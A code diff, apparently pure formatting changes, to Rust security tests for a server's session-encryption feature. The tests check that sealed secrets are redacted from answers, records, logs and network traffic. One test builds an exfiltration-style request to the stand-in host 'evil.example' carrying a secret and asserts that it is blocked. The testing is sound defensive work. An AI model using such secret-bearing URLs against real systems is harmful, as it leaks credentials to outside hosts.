@@ -27,16 +27,28 @@ impl Tap {
     fn start(target: Option<SocketAddr>) -> Tap {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let addr = listener.local_addr().unwrap();
-        let tap = Tap { addr, target: Arc::new(Mutex::new(target)), seen: Arc::default(), stop: Arc::default() };
+        let tap = Tap {
+            addr,
+            target: Arc::new(Mutex::new(target)),
+            seen: Arc::default(),
+            stop: Arc::default(),
+        };
         let (target, seen, stop) = (tap.target.clone(), tap.seen.clone(), tap.stop.clone());
         std::thread::spawn(move || {
             for client in listener.incoming() {
                 if stop.load(Ordering::SeqCst) {
                     break;
                 }
-                let (Ok(client), Some(to)) = (client, *target.lock().unwrap()) else { continue };
-                let Ok(upstream) = TcpStream::connect(to) else { continue };
-                for (mut from, mut to) in [(client.try_clone().unwrap(), upstream.try_clone().unwrap()), (upstream, client)] {
+                let (Ok(client), Some(to)) = (client, *target.lock().unwrap()) else {
+                    continue;
+                };
+                let Ok(upstream) = TcpStream::connect(to) else {
+                    continue;
+                };
+                for (mut from, mut to) in [
+                    (client.try_clone().unwrap(), upstream.try_clone().unwrap()),
+                    (upstream, client),
+                ] {
                     let seen = seen.clone();
                     std::thread::spawn(move || {
                         let mut buf = [0u8; 16 * 1024];
@@ -63,8 +75,14 @@ impl Tap {
         use base64::Engine;
         let seen = String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned();
         assert!(!seen.is_empty(), "{what}: the tap saw no traffic at all");
-        assert!(!seen.contains(needle), "{what}: the value crossed the wire in clear");
-        assert!(!seen.contains(&base64::engine::general_purpose::STANDARD.encode(needle)), "{what}: the value crossed the wire as base64");
+        assert!(
+            !seen.contains(needle),
+            "{what}: the value crossed the wire in clear"
+        );
+        assert!(
+            !seen.contains(&base64::engine::general_purpose::STANDARD.encode(needle)),
+            "{what}: the value crossed the wire as base64"
+        );
     }
 }
 
@@ -76,22 +94,46 @@ impl Drop for Tap {
 }
 
 fn addr_of(url: &str) -> SocketAddr {
-    url.trim_start_matches("http://").split('/').next().unwrap().parse().unwrap()
+    url.trim_start_matches("http://")
+        .split('/')
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap()
 }
 
 /// The session's public key and key id.
 fn session_key(s: &Server, sid: &str) -> (String, String) {
-    let r = s.in_session(sid, "resources/read", json!({"uri": "mcp+session://encryption/pubkey"}));
-    let key: Json = serde_json::from_str(r["result"]["contents"][0]["text"].as_str().unwrap()).unwrap();
-    (key["public_key"].as_str().unwrap().to_string(), key["kid"].as_str().unwrap().to_string())
+    let r = s.in_session(
+        sid,
+        "resources/read",
+        json!({"uri": "mcp+session://encryption/pubkey"}),
+    );
+    let key: Json =
+        serde_json::from_str(r["result"]["contents"][0]["text"].as_str().unwrap()).unwrap();
+    (
+        key["public_key"].as_str().unwrap().to_string(),
+        key["kid"].as_str().unwrap().to_string(),
+    )
 }
 
 /// Every run record the admin can see, with its logs, as one text.
 fn all_records(s: &Server) -> String {
-    let list = s.ok(&s.admin, "execution", json!({"action": "list", "limit": 100}));
+    let list = s.ok(
+        &s.admin,
+        "execution",
+        json!({"action": "list", "limit": 100}),
+    );
     let mut text = list.to_string();
     for run in list["executions"].as_array().unwrap() {
-        text.push_str(&s.ok(&s.admin, "execution", json!({"action": "logs", "execution_id": run["execution_id"]})).to_string());
+        text.push_str(
+            &s.ok(
+                &s.admin,
+                "execution",
+                json!({"action": "logs", "execution_id": run["execution_id"]}),
+            )
+            .to_string(),
+        );
     }
     text
 }
@@ -112,19 +154,39 @@ fn a_sealed_value_in_a_refused_url_is_redacted_from_the_answer_and_the_records()
         // The URL itself is the sealed value: the refusal records the URL it refused.
         let url = format!("https://evil.example/{SEALED}");
         let sealed = json!({"input.params.url": {"ciphertext": nacl_seal(&pk, &url), "kid": kid}});
-        let r = tool(&s, &sid, "execution", json!({"action": "run", "reference": http, "input": {"operation": "request", "params": {"method": "GET"}}, "encrypted_secrets": sealed}));
+        let r = tool(
+            &s,
+            &sid,
+            "execution",
+            json!({"action": "run", "reference": http, "input": {"operation": "request", "params": {"method": "GET"}}, "encrypted_secrets": sealed}),
+        );
         let out = r["result"]["structuredContent"].to_string();
-        assert!(out.contains("domain_blocked"), "remote={remote}: the fetch was not refused: {r}");
+        assert!(
+            out.contains("domain_blocked"),
+            "remote={remote}: the fetch was not refused: {r}"
+        );
         assert!(!r.to_string().contains(SEALED), "remote={remote}: {r}");
         let records = all_records(&s);
-        assert!(records.contains("domain_blocked"), "remote={remote}: {records}");
-        assert!(!records.contains(SEALED), "remote={remote}: the records hold the sealed value: {records}");
+        assert!(
+            records.contains("domain_blocked"),
+            "remote={remote}: {records}"
+        );
+        assert!(
+            !records.contains(SEALED),
+            "remote={remote}: the records hold the sealed value: {records}"
+        );
         // Nor any log (the server's, and the host's, which logs each refusal).
         s.assert_nowhere_on_disk(SEALED);
         if let Some(h) = &h {
             let log = std::fs::read_to_string(h.data.0.join("host.log")).unwrap_or_default();
-            assert!(log.contains("egress refused"), "the host logged no refusal: {log}");
-            assert!(!log.contains(SEALED), "the host's log holds the sealed value: {log}");
+            assert!(
+                log.contains("egress refused"),
+                "the host logged no refusal: {log}"
+            );
+            assert!(
+                !log.contains(SEALED),
+                "the host's log holds the sealed value: {log}"
+            );
         }
     }
 }
@@ -137,7 +199,13 @@ fn a_formulas_sealed_input_stays_sealed_in_its_children_and_on_the_wire() {
     let to_router = Tap::start(None);
     let (_, pk) = h.spec.split_once('#').unwrap();
     let host_spec = format!("{}#{pk}", to_host.url());
-    let s = Server::start_with(&["--session-encryption", "--host", &host_spec, "--router-url", &to_router.url()]);
+    let s = Server::start_with(&[
+        "--session-encryption",
+        "--host",
+        &host_spec,
+        "--router-url",
+        &to_router.url(),
+    ]);
     *to_router.target.lock().unwrap() = Some(addr_of(&s.url));
     register_probe(&s);
     let jt = register_json_transform(&s);
@@ -156,7 +224,12 @@ fn a_formulas_sealed_input_stays_sealed_in_its_children_and_on_the_wire() {
         "input.steps.1.req.input.data.token": seal(),
         "input.steps.2.req.input.steps.0.text": seal(),
     });
-    let r = tool(&s, &sid, "execution", json!({"action": "run", "reference": PROBE, "input": {"steps": steps}, "encrypted_secrets": sealed}));
+    let r = tool(
+        &s,
+        &sid,
+        "execution",
+        json!({"action": "run", "reference": PROBE, "input": {"steps": steps}, "encrypted_secrets": sealed}),
+    );
     let results = &r["result"]["structuredContent"]["result"]["results"];
     assert_eq!(results[1]["status"], "completed", "{r}");
     assert_eq!(results[1]["output"]["data"]["token"], "[REDACTED]", "{r}");
@@ -165,9 +238,16 @@ fn a_formulas_sealed_input_stays_sealed_in_its_children_and_on_the_wire() {
 
     // Three records, every log redacted (the child formula printed the value too).
     let records = all_records(&s);
-    assert_eq!(s.ok(&s.admin, "execution", json!({"action": "list"}))["count"], 3, "{records}");
+    assert_eq!(
+        s.ok(&s.admin, "execution", json!({"action": "list"}))["count"],
+        3,
+        "{records}"
+    );
     assert!(records.contains("[REDACTED]"), "{records}");
-    assert!(!records.contains(SEALED), "a record holds the sealed value: {records}");
+    assert!(
+        !records.contains(SEALED),
+        "a record holds the sealed value: {records}"
+    );
     s.assert_nowhere_on_disk(SEALED);
     // Neither the runs sent to the host, nor its answers, nor the formulas' callbacks and
     // their answers carried the value in clear.
@@ -182,19 +262,42 @@ fn a_formula_started_over_plain_http_cannot_reach_secrets_through_its_tools() {
     policy(&s, PROBE, "allowed_tools", json!(["secret.*"]));
     let auth = format!("Bearer {}", s.admin);
     let set = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "secret", "arguments": {"action": "set", "name": "OPENAI", "value": SEALED}}});
-    let r = s.post(&[("authorization", &auth), ("x-forwarded-for", "203.0.113.5"), ("x-forwarded-proto", "https")], &set.to_string()).2;
+    let r = s
+        .post(
+            &[
+                ("authorization", &auth),
+                ("x-forwarded-for", "203.0.113.5"),
+                ("x-forwarded-proto", "https"),
+            ],
+            &set.to_string(),
+        )
+        .2;
     assert_eq!(r["result"]["isError"], false, "{r}");
     let run = |proto: &str| {
         let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "execution", "arguments": {
             "action": "run", "reference": PROBE, "input": {"steps": [{"fn": "tool", "req": {"tool": "secret", "action": "list", "args": {}}}]}}}});
         let auth = format!("Bearer {}", s.admin);
-        s.post(&[("authorization", &auth), ("x-forwarded-for", "203.0.113.5"), ("x-forwarded-proto", proto)], &body.to_string()).2
+        s.post(
+            &[
+                ("authorization", &auth),
+                ("x-forwarded-for", "203.0.113.5"),
+                ("x-forwarded-proto", proto),
+            ],
+            &body.to_string(),
+        )
+        .2
     };
     // From a client the proxy reached over plain HTTP, the formula's tool call is refused
     // like the client's own would be, though the callback itself comes from loopback.
     let r = run("http");
     let answer = &r["result"]["structuredContent"]["result"]["results"][0];
-    assert!(answer["error"]["message"].as_str().unwrap_or("").contains("HTTPS"), "{r}");
+    assert!(
+        answer["error"]["message"]
+            .as_str()
+            .unwrap_or("")
+            .contains("HTTPS"),
+        "{r}"
+    );
     assert!(answer.get("result").is_none(), "{r}");
     // Over HTTPS, the same formula lists the secret (masked).
     let r = run("https");
